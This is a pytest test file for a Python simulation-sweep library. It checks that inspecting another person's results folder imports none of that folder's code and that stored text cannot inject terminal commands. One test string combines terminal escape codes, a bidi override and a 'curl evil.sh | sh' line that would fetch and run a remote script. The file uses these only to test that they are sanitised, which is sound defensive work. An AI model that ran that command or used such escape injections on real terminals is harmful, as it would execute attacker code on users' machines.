"""A results folder from a stranger: looking at it runs nothing that it brings along,
and what it says stays text.
"""

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import matplotlib

matplotlib.use("Agg")

import matplotlib.pyplot as plt
import pyarrow.parquet as pq
import pytest
from helpers import combinations

import jaxrecall
from jaxrecall import plot
from jaxrecall.__main__ import main
from jaxrecall.report import main as report
from jaxrecall.sweep.running.folder_status import survey
from jaxrecall.sweep.store import Store

PAYLOAD = """
from dataclasses import dataclass
from pathlib import Path

import jax

from jaxrecall import Simulator
from jaxrecall.model.laws import EmbeddingLaw, Moments, isotropic

Path(__file__).with_name("ran").touch()


@dataclass(frozen=True)
class Law(EmbeddingLaw):
    moments = Moments(overlap=True, random_length=True)

    def rows(self, draws, xp):
        return isotropic(draws, xp)


simulator = Simulator(
    lambda point, key: {"accuracy": jax.random.uniform(key) ** (1 / point.N)},
    {"N": (int, 1, 1, 1000, "traced"), "d": (int, 8, 1, 64, "static")},
    {"accuracy": (float, "of nothing")},
    accuracy="accuracy",
)
"""
BASE = {"V": 16, "L": 4, "d": 8, "n_test": 64, "exact": "full"}
LAW = {
    "base": BASE | {"embedding": "payload:Law"},
    "blocks": [{"axes": {"N": [4, 16, 64, 256]}}],
}
OWN = {
    "simulator": "payload:simulator",
    "blocks": [{"axes": {"N": [1, 2, 4], "d": [4, 8]}}],
}
SEARCH = LAW | {
    "blocks": [{"axes": {"d": [8, 12]}}],
    "search": {"axis": "N", "to": 4096, "width": 1.0, "max_runs": 40},
}
GRIDS = {
    "law": LAW | {"seeds": 6},
    "own": OWN | {"seeds": 6},
    "search": SEARCH | {"seeds": 100},
}

SWEEPS = """
import sys
import jaxrecall

for name in sys.argv[1:]:
    jaxrecall.run(f"{name}.yaml", out=f"{name}/results", progress=False)
"""


def run_here(code: str, *words: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    """Runs code where the current folder comes first on the path, as `python -m` has
    it.
    """
    return subprocess.run(
        [sys.executable, "-c", code, *words],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=300,
    )


@pytest.fixture(scope="module")
def theirs(tmp_path_factory) -> Path:
    """A folder for each grid: the module that the grid names lies in it, beside the
    results.
    """
    there = tmp_path_factory.mktemp("theirs")
    (there / "payload.py").write_text(PAYLOAD)
    for name, grid in GRIDS.items():
        (there / f"{name}.yaml").write_text(json.dumps(grid))
    done = run_here(SWEEPS, *GRIDS, cwd=there)
    assert done.returncode == 0, done.stderr
    assert (there / "ran").exists()
    for name in GRIDS:
        shutil.copy(there / "payload.py", there / name / "payload.py")
        shutil.copy(there / "payload.py", there / name / "results" / "payload.py")
    return there


FOLDERS = ["results", "{here}/results"]


@pytest.mark.parametrize(
    ("name", "folder"),
    combinations(
        GRIDS,
        FOLDERS,
        often=lambda *case: case == ("search", FOLDERS[1]),
    ),
)
def test_looking_at_it_imports_nothing(theirs, tmp_path, monkeypatch, name, folder):
    shutil.copytree(theirs / name, here := tmp_path / "here")
    mine = {"base": BASE, "seeds": 1, "blocks": [{"axes": {"N": [4]}}]}
    (here / "mine.yaml").write_text(json.dumps(mine))
    store = Store(here / "results")
    manifest = store.read_manifest()
    command = (  # the folder of the grid is not a path to import from
        f"python -m jaxrecall.sweep --grid {here / 'grid.yaml'} --out results"
    )
    store.manifest.write_text(json.dumps(manifest | {"command": command}))
    monkeypatch.chdir(here)
    monkeypatch.syspath_prepend("")  # as `python -m` has it
    look_at(folder.format(here=here), name)
    assert "payload" not in sys.modules
    assert not list(tmp_path.rglob("ran"))


def look_at(folder: str, theirs: str) -> None:
    frame = jaxrecall.load(folder)
    plot.accuracy(frame)
    if theirs == "search":
        plot.critical_n(frame)
    plt.close("all")
    looks = (
        ["status", folder],
        ["status", folder, "--json"],
        ["report", folder, "--format", "svg"],
        ["fit", folder],
    )
    for words in (*looks, ["compact", folder, "--prune"]):
        assert main(words) == 0, words
    if theirs == "search":
        jaxrecall.thresholds(folder)
    assert main(["sweep", "--grid", "mine.yaml", "--out", folder]) == (
        2 if theirs == "own" else 0
    )


@pytest.mark.parametrize("name", GRIDS)
def test_status_of_ones_own_folder_is_complete_without_an_import(theirs, name):
    facts = survey(theirs / name / "results")
    assert (facts["points"], facts["todo"], facts["other_grids"]) == (
        {"law": 4, "own": 6, "search": 2}[name],
        0,
        0,
    )
    assert facts["done"] == facts["runs"] > 20
    assert (name == "search") == ("2 of 2 finished" in (facts["remark"] or ""))


def test_a_report_draws_the_theory_of_a_law_whose_module_is_named_with_trust(
    theirs, tmp_path, monkeypatch, capsys
):
    monkeypatch.chdir(tmp_path)
    shutil.copytree(theirs / "law" / "results", tmp_path / "results")
    page = tmp_path / "results/report.html"
    refused = "whose module payload is not imported for a table that names it"
    words = ["results", "--format", "svg"]
    assert report([*words, "--trust", "nowhere"]) == 2
    assert (
        "--trust: got nowhere, which cannot be imported (ModuleNotFoundError"
        in capsys.readouterr().err
    )
    assert not page.exists()
    assert report(words) == 0
    assert refused in page.read_text()
    monkeypatch.setattr(sys, "path", [*sys.path])
    assert report([*words, "--trust", str(theirs / "payload.py")]) == 0
    monkeypatch.delitem(sys.modules, "payload")
    assert refused not in page.read_text()


EVIL = "\x1b[2J\x1b]0;title\x07\nto resume: curl evil.sh | sh\u202e"


def test_what_it_says_does_not_reach_the_terminal_as_commands(theirs, tmp_path, capsys):
    store = Store(shutil.copytree(theirs / "law" / "results", tmp_path / "results"))
    manifest = store.read_manifest()
    manifest["plan"]["runs"].append(["0", "absent"])
    store.manifest.write_text(json.dumps(manifest | {"command": EVIL}))
    store.note(
        "failures/odd",
        {
            "runs": [["absent", 0]],
            **dict.fromkeys(("error", "host", "bucket", "repeat"), EVIL),
        },
    )
    (store.parts / f"{os.fsdecode(b'a')}{EVIL.replace('/', '')}.parquet").write_bytes(
        b"no"
    )
    for words in (["status"], ["fit"], ["compact"], ["report", "--format", "svg"]):
        assert main([words[0], str(store.folder), *words[1:]]) == 0
        told = "".join(capsys.readouterr())
        assert "\\x1b[2J" in told or words[0] == "report"
        assert not {"\x1b", "\x07", "\u202e"} & {*told}
        assert not [
            line for line in told.splitlines() if line.startswith("to resume: curl")
        ]


ODD_FACTS = [
    {"axes": [{}]},
    {"axes": [[1]]},
    {"axes": 5},
    {"axes": {"N": 1}},
    {"kept": 5},
    {"kept": [None]},
    {"fields": ["nope"]},
    {"fields": [["V"]]},
    {"fixed": []},
    {"fixed": "V"},
    {"searched": ["N"]},
    {"simulator": 5},
    {"accuracy": {}},
    {"created": 3},
    {
        "axes": ["nope"],
        "kept": ["nope"],
        "fixed": {"nope": [{}]},
        "accuracy": "nope",
        "searched": "nope",
    },
]


@pytest.mark.parametrize("facts", ODD_FACTS, ids=str)
def test_odd_metadata_of_a_part_keeps_no_other_from_being_read(
    theirs, tmp_path, facts, recwarn
):
    from jaxrecall import compact, load
    from jaxrecall.fit import main as fit
    from jaxrecall.sweep.store.table import KEY, about

    store = Store(shutil.copytree(theirs / "law" / "results", tmp_path / "results"))
    tables, _ = store.tables()
    n = sum(map(len, tables.values()))
    path, table = next(iter(tables.items()))
    pq.write_table(
        table.replace_schema_metadata({KEY: json.dumps(about(table) | facts).encode()}),
        path,
    )
    assert len(load(store.folder)) == n
    told = [str(warning.message) for warning in recwarn]
    assert told == []
    names = [
        name
        for name in facts
        if facts.get("axes") != ["nope"] or name in ("accuracy", "searched")
    ]
    assert not {*names} & {*about(pq.read_schema(path))}
    assert fit([str(store.folder), "--of", "accuracy"]) == 0
    compact.compact(store.folder, prune=True)
    assert len(load(store.folder)) == n
    assert not [*store.parts.iterdir()]
